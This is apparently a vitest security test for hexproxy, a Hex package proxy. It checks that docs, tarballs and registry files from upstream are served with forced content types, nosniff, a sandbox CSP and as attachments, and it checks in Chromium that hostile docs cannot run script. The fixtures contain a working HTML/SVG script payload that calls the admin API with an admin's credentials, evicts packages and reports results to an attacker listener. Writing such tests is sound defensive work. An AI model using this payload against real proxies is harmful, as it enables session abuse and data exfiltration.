// What a browser may do with the files hexproxy serves from upstream (docs, installs,
// registry files, tarballs): hexproxy decides their Content-Type whatever upstream said,
// and sends them with nosniff, a sandbox CSP and as attachments. A hostile upstream that
// answers docs as HTML or SVG with a script must not get that script run with hexproxy's
// origin, where an admin's browser holds credentials for the admin API (Chromium, through
// playwright-core).
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { TokenStore } from '../../src/auth/token-store.js';
import { findBrowser, requireBrowser } from '../support/browser.js';
import { INSTALLS_CSV, startFakeUpstream, type FakeUpstream, type PackageSpec } from '../support/upstreams/fake-upstream.js';
import { startOtherOrigin, type OtherOrigin } from '../support/other-origin.js';
import { startProxy, tempDir, type HttpResult, type TestProxy } from '../support/proxy.js';

const ACME_KEY = 'acme-upstream-key-0123456789';
const FILE_CSP = "default-src 'none'; sandbox";

const packages: PackageSpec[] = [
  { name: 'jason', releases: [{ version: '1.4.1' }] },
  { name: 'decimal', releases: [{ version: '2.1.1' }] },
];

let upstream: FakeUpstream;
let proxy: TestProxy;
let listener: OtherOrigin;
let adminToken = '';
let acmeToken = '';

/**
 * The script a hostile upstream puts in docs: reads the admin API with the admin's
 * credentials, evicts `victim`, and reports each step to the attacker's listener.
 */
function hostileScript(victim: { name: string; version: string }): string {
  return `(async () => {
  const report = (what, body) => fetch(${JSON.stringify(listener.url)} + '/report/' + what, { method: 'POST', mode: 'no-cors', body });
  await report('ran', location.href);
  const stats = await fetch('/api/admin/stats');
  await report('stats', stats.status + ' ' + (await stats.text()));
  const evict = await fetch('/api/admin/evict', { method: 'POST', headers: { 'content-type': 'application/json' }, body: ${JSON.stringify(JSON.stringify(victim))} });
  await report('evict', evict.status + ' ' + (await evict.text()));
})();`;
}

const hostileHtml = (victim: { name: string; version: string }): Buffer =>
  Buffer.from(`<!DOCTYPE html>\n<html><body><h1>docs</h1><script>${hostileScript(victim)}</script></body></html>\n`);

const hostileSvg = (victim: { name: string; version: string }): Buffer =>
  Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script><![CDATA[${hostileScript(victim)}]]></script></svg>\n`);

const basic = (token: string): string => `Basic ${Buffer.from(`me:${token}`).toString('base64')}`;

beforeAll(async () => {
  upstream = await startFakeUpstream({
    packages,
    organizations: { acme: { authKey: ACME_KEY, packages: [{ name: 'acme_core', releases: [{ version: '1.0.0' }] }] } },
  });
  listener = await startOtherOrigin();
  const keyFile = join(tempDir('hexproxy-served-files-'), 'acme.pem');
  writeFileSync(keyFile, upstream.organization('acme').publicKeyPem);
  proxy = await startProxy({
    upstreamUrl: upstream.url,
    upstreamPublicKeyPem: upstream.publicKeyPem,
    config: { organizations: { acme: { authKey: ACME_KEY, publicKey: keyFile } } },
  });
  const tokens = new TokenStore(proxy.server.hexproxy.config.auth.tokensFile);
  adminToken = tokens.create('ops', ['hexpm', 'acme'], true).secret;
  acmeToken = tokens.create('acme-dev', ['hexpm', 'acme'], false).secret;

  // A hostile upstream (or anyone on the path of an http:// upstream) answers docs and
  // installs lists with types a browser renders.
  upstream.serveInstead('/docs/jason-1.4.1.tar.gz', {
    body: hostileHtml({ name: 'jason', version: '1.4.1' }),
    contentType: 'text/html; charset=utf-8',
  });
  upstream.serveInstead('/docs/decimal-2.1.1.tar.gz', { body: hostileSvg({ name: 'decimal', version: '2.1.1' }), contentType: 'image/svg+xml' });
  upstream.serveInstead('/repos/acme/docs/acme_core-1.0.0.tar.gz', {
    body: hostileHtml({ name: 'acme_core', version: '1.0.0' }),
    contentType: 'text/html',
  });
  upstream.serveInstead('/installs/hex-1.x.csv', { body: INSTALLS_CSV, contentType: 'text/html' });
});

afterAll(async () => {
  await proxy?.close();
  await listener?.close();
  await upstream?.close();
});

/** What every file from upstream must carry, whatever upstream said. */
function expectFileHeaders(result: HttpResult, contentType: string, what: string): void {
  expect(result.headers['content-type'], what).toBe(contentType);
  expect(result.headers['x-content-type-options'], what).toBe('nosniff');
  expect(result.headers['content-security-policy'], what).toBe(FILE_CSP);
  expect(result.headers['content-disposition'], what).toBe('attachment');
}

describe('files from upstream over plain HTTP', () => {
  it('are served with the type hexproxy decides, nosniff, a sandbox CSP and as attachments, cached or not', async () => {
    const acme = { authorization: basic(acmeToken) };
    const files: [string, string, Record<string, string>?][] = [
      ['/docs/jason-1.4.1.tar.gz', 'application/gzip'],
      ['/mirror/docs/jason-1.4.1.tar.gz', 'application/gzip'],
      ['/docs/decimal-2.1.1.tar.gz', 'application/gzip'],
      ['/repos/acme/docs/acme_core-1.0.0.tar.gz', 'application/gzip', acme],
      ['/installs/hex-1.x.csv', 'text/csv'],
      ['/mirror/installs/hex-1.x.csv', 'text/csv'],
      ['/names', 'application/octet-stream'],
      ['/packages/jason', 'application/octet-stream'],
      ['/mirror/packages/jason', 'application/octet-stream'],
      ['/repos/acme/packages/acme_core', 'application/octet-stream', acme],
      ['/tarballs/jason-1.4.1.tar', 'application/x-tar'],
      ['/mirror/tarballs/jason-1.4.1.tar', 'application/x-tar'],
      ['/repos/acme/tarballs/acme_core-1.0.0.tar', 'application/x-tar', acme],
    ];
    for (const [path, type, headers] of files) {
      // A miss (or the first view of a cached file), then hits: memory, routes (a query
      // string takes the routes), HEAD and 304.
      const first = await proxy.get(path, headers);
      expect(first.status, path).toBe(200);
      expectFileHeaders(first, type, `${path} (${first.headers['x-hexproxy-cache']})`);
      const hit = await proxy.get(path, headers);
      // proxy.get waits for the public repository's tarballs to be stored, not an organization's.
      if (!path.startsWith('/repos/acme/tarballs/')) expect(hit.headers['x-hexproxy-cache'], path).toBe('HIT');
      expectFileHeaders(hit, type, `${path} (${hit.headers['x-hexproxy-cache']})`);
      expectFileHeaders(await proxy.get(`${path}?via=routes`, headers), type, `${path}?via=routes`);
      expectFileHeaders(await proxy.head(path, headers), type, `HEAD ${path}`);
      const notModified = await proxy.get(path, { ...headers, 'if-none-match': hit.headers['etag'] ?? '' });
      expect(notModified.status, path).toBe(304);
      expectFileHeaders(notModified, type, `${path} (304)`);
    }
    // The bytes are relayed as upstream sent them; only the headers are hexproxy's.
    expect((await proxy.get('/docs/jason-1.4.1.tar.gz')).body.toString('utf8')).toContain('<script>');
  });

  it('sends nosniff and the sandbox CSP with every other answer too: errors, JSON, the key', async () => {
    const answers: [string, number, Record<string, string>?][] = [
      ['/public_key', 200],
      ['/healthz', 200],
      // Organizations are configured, so scraping needs a token (metrics.requireToken).
      ['/metrics', 200, { authorization: basic(adminToken) }],
      ['/metrics', 401],
      ['/api/admin/stats', 200, { authorization: basic(adminToken) }],
      ['/api/admin/stats', 401],
      ['/packages/Not_Valid', 400],
      ['/nothing/here', 404],
      ['/docs/..%2fhexproxy.db', 400],
      ['/repos/acme/names', 401],
    ];
    for (const [path, status, headers] of answers) {
      const result = await proxy.get(path, headers);
      expect(result.status, path).toBe(status);
      expect(result.headers['x-content-type-options'], path).toBe('nosniff');
      expect(result.headers['content-security-policy'], path).toBe(FILE_CSP);
    }
    // UI pages keep their own policy (their inline style and script), with nosniff.
    const ui = await proxy.get('/ui/status');
    expect(ui.headers['x-content-type-options']).toBe('nosniff');
    expect(ui.headers['content-security-policy']).toMatch(/^default-src 'none'; style-src 'sha256-/);
  });
});

const browser = await findBrowser();

describe('hostile docs in a real browser (chromium)', () => {
  it.runIf(requireBrowser && !browser.available)('chromium and playwright-core are installed (CI=true: .ci/run installs chromium)', () => {
    expect.fail(browser.available ? '' : browser.reason);
  });

  it.skipIf(!browser.available)(
    "cannot run script with hexproxy's origin while an admin is signed in (HTML and SVG docs)",
    async () => {
      if (!browser.available) return;
      // Cached: the hostile docs, and the victims of their scripts' evict.
      for (const path of ['/tarballs/jason-1.4.1.tar', '/tarballs/decimal-2.1.1.tar', '/docs/jason-1.4.1.tar.gz', '/docs/decimal-2.1.1.tar.gz'])
        expect((await proxy.get(path)).status).toBe(200);
      const chromium = await browser.launch();
      try {
        const context = await chromium.newContext();
        const tab = await context.newPage();
        // The admin signs in to the UI: the browser asks with basic auth and keeps the credentials.
        const host = new URL(proxy.url).host;
        await tab.goto(`http://admin:${adminToken}@${host}/ui/login`);
        expect(new URL(tab.url()).pathname).toBe('/ui/packages');
        // The browser now sends them to the admin API by itself (after its 401).
        expect((await tab.goto(`${proxy.url}/api/admin/stats`))?.status()).toBe(200);
        const adminRequestsBefore = proxy.logs.filter((line) => line.msg === 'request' && String(line['path']).startsWith('/api/admin/')).length;
        upstream.resetHits();

        for (const [file, victim] of [
          ['jason-1.4.1.tar.gz', ['jason', '1.4.1']],
          ['decimal-2.1.1.tar.gz', ['decimal', '2.1.1']],
        ] as const) {
          const url = `${proxy.url}/docs/${file}`;
          // An attachment is a download: no document, so nothing in it can run. Had the
          // browser rendered it, goto would resolve with the page (and no download come).
          const [download] = await Promise.all([
            tab.waitForEvent('download', { timeout: 5000 }).catch(() => undefined),
            tab.goto(url).catch(() => undefined),
          ]);
          // Whatever a rendered page would have fetched (each step starts from the last) is done.
          await tab.waitForLoadState('networkidle');
          expect(
            listener.received.map((report) => `${report.path}: ${report.body.slice(0, 120)}`),
            file,
          ).toEqual([]);
          expect(download?.suggestedFilename(), file).toBe(file);
          expect(download?.url(), file).toBe(url);
          // The victim is still cached, and was not fetched again.
          expect(proxy.server.hexproxy.index.findTarball('hexpm', victim[0], victim[1]), file).toBeDefined();
        }
        const adminRequests = proxy.logs.filter((line) => line.msg === 'request' && String(line['path']).startsWith('/api/admin/'));
        expect(adminRequests.slice(adminRequestsBefore)).toEqual([]);
        expect(upstream.totalHits()).toBe(0);
        await context.close();
      } finally {
        await chromium.close();
      }
    },
    60_000,
  );
});
